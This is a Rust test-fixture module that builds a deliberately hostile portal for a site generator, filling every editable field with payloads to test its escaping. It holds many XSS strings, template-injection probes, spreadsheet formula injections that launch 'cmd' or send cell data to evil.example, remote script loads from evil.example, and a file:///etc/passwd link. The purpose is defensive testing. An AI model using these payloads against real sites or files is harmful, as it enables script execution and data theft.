//! A portal written by an attacker: every field an editor can fill carries markup, script,
//! dangerous links or spreadsheet formulas. Each script payload, if it ever ran, would set
//! `top.__pwned` to its own number (and most also open a dialog), so a browser test can tell
//! whether anything executed, and which payload did.
//!
//! The files are written as JSON, which YAML reads as it is: quoting hundreds of hostile
//! strings by hand for YAML would test the quoting rather than shishi.

use serde_json::{json, Value};
use std::path::Path;

/// Strings that try to run script wherever text lands: HTML text and attributes, the
/// `<title>`, JSON-LD, SVG, feeds, the search index. `{n}` becomes the payload's number.
pub const PAYLOADS: &[&str] = &[
    "<script>top.__pwned={n};alert({n})</script>",
    "\"><img src=x onerror=top.__pwned={n};alert({n})>",
    "'><img src=x onerror=top.__pwned={n};alert({n})>",
    "\" autofocus onfocus=\"top.__pwned={n}\" x=\"",
    "</script><!--<script>top.__pwned={n}</script>",
    "</title><script>top.__pwned={n}</script>",
    "</textarea></style></noscript></template><script>top.__pwned={n}</script>",
    "<svg onload=top.__pwned={n};alert({n})>",
    "<svg><script>top.__pwned={n}</script></svg>",
    "<svg><a xlink:href=\"javascript:top.__pwned={n}\"><text y=\"9\">x</text></a></svg>",
    "<iframe srcdoc=\"<script>top.__pwned={n};top.alert({n})</script>\"></iframe>",
    "<a href=\"&#x6A;avascript:top.__pwned={n}\">entity-encoded</a>",
    "<a href=\"jav&#x09;ascript:top.__pwned={n}\">tab inside</a>",
    "<a href=\"javascript&colon;top.__pwned={n}\">named colon</a>",
    "[markdown link](javascript:top.__pwned={n})",
    "[mixed case](JaVaScRiPt:top.__pwned={n})",
    "[leading space](< javascript:top.__pwned={n}>)",
    "[entity](&#x6A;avascript:top.__pwned={n})",
    "[control char](\u{1}javascript:top.__pwned={n})",
    "[newline](java\nscript:top.__pwned={n})",
    "[data](data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+)",
    "[vbscript](vbscript:msgbox({n}))",
    "![image](javascript:top.__pwned={n})",
    "![tracking pixel](https://evil.example/pixel-{n}.png)",
    "[ref link][r]\n\n[r]: javascript:top.__pwned={n}",
    "<javascript:top.__pwned={n}>",
    "<a href=\"data:text/html,<script>top.__pwned={n}</script>\">data link</a>",
    "<div style=\"width:expression(top.__pwned={n})\">expression</div>",
    "<p style=\"background:url('javascript:top.__pwned={n}')\">css url</p>",
    "<style>*{background:url(javascript:top.__pwned={n})}</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:top.__pwned={n}\">",
    "<base href=\"javascript:top.__pwned={n}//\">",
    "<form action=\"javascript:top.__pwned={n}\"><button>go</button></form>",
    "<object data=\"javascript:top.__pwned={n}\"></object><embed src=\"javascript:top.__pwned={n}\">",
    "<details open ontoggle=top.__pwned={n}>",
    "<input autofocus onfocus=top.__pwned={n}>",
    "<body onload=top.__pwned={n}>",
    "<noscript><p title=\"</noscript><img src=x onerror=top.__pwned={n}>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=top.__pwned={n}&gt;\">",
    "<script src=\"//evil.example/x.js\"></script><link rel=stylesheet href=\"http://evil.example/x.css\">",
    "<img src=x onerror=top.__pwned={n}",
    "]]><![CDATA[<script>top.__pwned={n}</script>]]>\u{2028}\u{2029}&amp;&lt;\u{1}\u{fffe}",
    "{{ 7*7 }}{% raw %}${{n}}{{ __tera_context }}",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"{n}\")",
    "+cmd|' /C calc'!A{n}",
    "-2+3+cmd|' /C calc'!A{n}",
    "@SUM(1+{n})*cmd|' /C calc'!A0",
    "\t=1+{n}",
    "\r=1+{n}",
    "  =1+{n}",
];

/// Web addresses that pass the http(s) rule but carry markup, quotes or script, for the
/// fields that take an address and must still render it.
pub const URL_PAYLOADS: &[&str] = &[
    "https://example.org/\"><script>top.__pwned=901</script>",
    "https://example.org/' onmouseover='top.__pwned=902",
    "https://example.org/\" autofocus onfocus=\"top.__pwned=903",
    "https://example.org/?q=<svg/onload=top.__pwned=904>&x=\"y\"",
    "https://example.org/#javascript:top.__pwned=905",
    "http://example.org/ javascript:top.__pwned=906",
    "https://example.org/</script><!--",
    "https://example.org/=cmd|' /C calc'!A0",
];

/// Addresses a source, licence or repository may not have: none of them is a web page a
/// reader can open, and several would run script or read the reader's own files.
pub const BAD_URLS: &[&str] = &[
    "javascript:top.__pwned=1",
    "JaVaScRiPt:top.__pwned=1",
    " javascript:top.__pwned=1",
    "\u{1}javascript:top.__pwned=1",
    "java\tscript:top.__pwned=1",
    "&#x6A;avascript:top.__pwned=1",
    "data:text/html,<script>top.__pwned=1</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/report",
    "ftp://evil.example/report",
    "https:evil.example",
    "mailto:someone@example.org",
];

/// Payload `i` with its number filled in.
pub fn payload(i: usize) -> String {
    PAYLOADS[i].replace("{n}", &(i + 1).to_string())
}

/// Every payload, one after another: for the fields a portal has only once.
pub fn all_payloads() -> String {
    (0..PAYLOADS.len())
        .map(payload)
        .collect::<Vec<_>>()
        .join(" ")
}

/// The slug of the city (and domain) that carries payload `i`.
pub fn city_slug(i: usize) -> String {
    format!("h{}", i + 1)
}

/// The fields that carry a payload, by file and path, with how often each takes one: the
/// fields repeated per payload take every payload, the site's single fields take them all
/// at once. Kept beside the writer so the count reported by the tests is the count written.
pub fn fields() -> Vec<(&'static str, usize)> {
    let each = PAYLOADS.len();
    vec![
        ("site.yaml title", each),
        ("site.yaml description", each),
        ("site.yaml license.name", each),
        ("site.yaml license.url", 1),
        ("site.yaml repository", 1),
        ("site.yaml domains[].name", each),
        ("site.yaml domains[].description", each),
        ("city.yaml name", each),
        ("city.yaml description", each),
        ("<year>.yaml title", each),
        ("<year>.yaml summary", each),
        ("sources[].title", each),
        ("sources[].publisher", each),
        ("sources[].note", each),
        ("sources[].url", URL_PAYLOADS.len()),
        ("snapshots[].note", each),
        ("projects[].title", each),
        ("projects[].title language tag", each),
        ("projects[].lead", each),
        ("projects[].districts[]", each),
        ("projects[].targets[].metric", each),
        ("projects[].targets[].unit", each),
        ("projects[].budget.unit", each),
        ("projects[].summary", each),
        ("projects[].updates[].note", each),
    ]
}

fn write_json(root: &Path, rel: &str, value: &Value) {
    let json = serde_json::to_string_pretty(value).unwrap();
    // JSON leaves these characters raw, but YAML reads the first three as line breaks and
    // refuses the rest in a file, so they go in as escapes, which YAML decodes the same way.
    let mut text = String::with_capacity(json.len());
    for c in json.chars() {
        match c {
            '\u{85}' | '\u{2028}' | '\u{2029}' | '\u{fffe}' | '\u{ffff}' | '\u{7f}' => {
                text.push_str(&format!("\\u{:04x}", c as u32))
            }
            c => text.push(c),
        }
    }
    super::fixtures::write(root, rel, &text);
}

/// Writes the hostile portal into `root`: one city per payload, each with two years, so
/// every page kind and chart shows each payload in every field it has.
pub fn write_portal(root: &Path) {
    let all = all_payloads();
    let domains: Vec<Value> = (0..PAYLOADS.len())
        .map(|i| json!({"id": city_slug(i), "name": payload(i), "description": payload(i)}))
        .collect();
    write_json(
        root,
        "site.yaml",
        &json!({
            "title": all,
            "base_url": "https://example.org/",
            "description": all,
            "license": {"name": all, "url": URL_PAYLOADS[0]},
            "repository": URL_PAYLOADS[1],
            "domains": domains,
        }),
    );
    for i in 0..PAYLOADS.len() {
        let p = payload(i);
        let slug = city_slug(i);
        let url = URL_PAYLOADS[i % URL_PAYLOADS.len()];
        write_json(
            root,
            &format!("{slug}/city.yaml"),
            &json!({"name": p, "level": "prefecture", "description": p}),
        );
        let source = json!({
            "id": "report", "title": p, "publisher": p, "date": "2024-06-30",
            "url": url, "type": "media", "note": p,
        });
        let project = |status: &str, extra: Value| {
            let mut v = json!({
                "id": "pledge", "title": p, "domain": slug, "lead": p, "districts": [p],
                "deadline": "2024-12-31",
                "targets": [{"metric": p, "unit": p, "target": 10, "actual": 4}],
                "budget": {"planned": 100, "spent": 40, "unit": p},
                "summary": p, "sources": ["report"],
            });
            v.as_object_mut()
                .unwrap()
                .extend(extra.as_object().unwrap().clone());
            v["updates"] = json!([
                {"date": "2023-06-30", "status": "in_progress", "progress": 40, "note": p, "sources": ["report"]},
                {"date": "2023-12-31", "status": status, "progress": 80, "note": p},
            ]);
            v
        };
        let mut earlier = project("completed", json!({}));
        earlier["updates"][1]["progress"] = json!(100);
        earlier["deadline"] = json!("2023-12-31");
        earlier["updates"][0]["date"] = json!("2023-06-30");
        write_json(
            root,
            &format!("{slug}/2023.yaml"),
            &json!({
                "year": 2023, "title": p, "summary": p,
                "sources": [source],
                "snapshots": [{"as_of": "2023-12-31", "source": "report", "total": 1, "completed": 1, "final": true, "note": p}],
                "projects": [earlier],
            }),
        );
        let mut later = project("in_progress", json!({"continues": "2023/pledge"}));
        later["updates"][0]["date"] = json!("2024-03-31");
        later["updates"][1]["date"] = json!("2024-06-30");
        // A title given as a map whose only language tag is itself hostile: the tag is
        // what the page puts in a `lang` attribute.
        let child = json!({
            "id": "part", "title": {p.clone(): p}, "domain": slug, "lead": p, "parent": "pledge",
            "status": "in_progress", "schedule": "behind", "progress": 20,
        });
        write_json(
            root,
            &format!("{slug}/2024.yaml"),
            &json!({
                "year": 2024, "title": p, "announced": "2024-01-10", "summary": p,
                "sources": [source],
                "snapshots": [{"as_of": "2024-06-30", "source": "report", "total": 1, "on_track": 1, "note": p}],
                "projects": [later, child],
            }),
        );
    }
}

/// The hostile portal in a temporary folder.
pub fn portal() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    write_portal(dir.path());
    dir
}
